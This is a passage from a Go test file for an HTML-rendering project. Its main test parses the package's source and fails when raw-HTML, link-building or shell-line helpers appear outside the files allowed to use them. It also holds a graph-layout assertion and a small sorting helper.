	rows, lanes := graphOf(all, 2*parents-1)
	if lanes != lanesMax || len(rows) != 1 || rows[0].lane != 0 || len(rows[0].joins) != lanesMax-1 || len(rows[0].passes) != 0 {
		t.Errorf("%d lanes: %+v", lanes, rows)
	}
}

// TestOnlyOneFileIsRaw finds code that writes HTML without escaping outside html.go, and code
// outside link.go and layout.go that makes an address. It also finds lines for a shell that command
// did not make.
func TestOnlyOneFileIsRaw(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob("*.go")
	if err != nil || len(files) < 10 {
		t.Fatal(files, err)
	}
	owners := map[string][]string{
		"Raw": {"html.go"}, "Rawf": {"html.go"}, "NodeFunc": {"html.go"}, "Style": nil, "StyleAttr": nil, "StyleEl": nil,
		"Href": {"link.go", "layout.go"}, "Action": {"link.go"}, "FormAction": nil, "Src": {"layout.go"},
	}
	for _, file := range files {
		if strings.HasSuffix(file, "_test.go") {
			continue
		}
		content, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		parsed, err := parser.ParseFile(token.NewFileSet(), file, content, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(parsed, func(node ast.Node) bool {
			if made, ok := node.(*ast.CompositeLit); ok && len(made.Elts) > 0 && file != "html.go" {
				if typ, isName := made.Type.(*ast.Ident); isName && typ.Name == "shellLine" {
					t.Errorf("%s makes a shellLine without command", file)
				}
			}
			if literal, ok := node.(*ast.BasicLit); ok && strings.HasPrefix(literal.Value, `"moorage `) {
				t.Errorf("%s writes the command %s: use command", file, literal.Value)
			}
			selected, ok := node.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			of, isName := selected.X.(*ast.Ident)
			allowed, isWatched := owners[selected.Sel.Name]
			if isName && (of.Name == "g" || of.Name == "h") && isWatched && !slices.Contains(allowed, file) {
				t.Errorf("%s uses %s.%s", file, of.Name, selected.Sel.Name)
			}
			return true
		})
	}
}

// longestFirst returns the paths of answers, the longest first, so that the most exact one wins.
func longestFirst(answers map[string]any) []string {
	paths := sortedKeys(answers)
	slices.SortStableFunc(paths, func(a, b string) int { return len(b) - len(a) })
	return paths
}
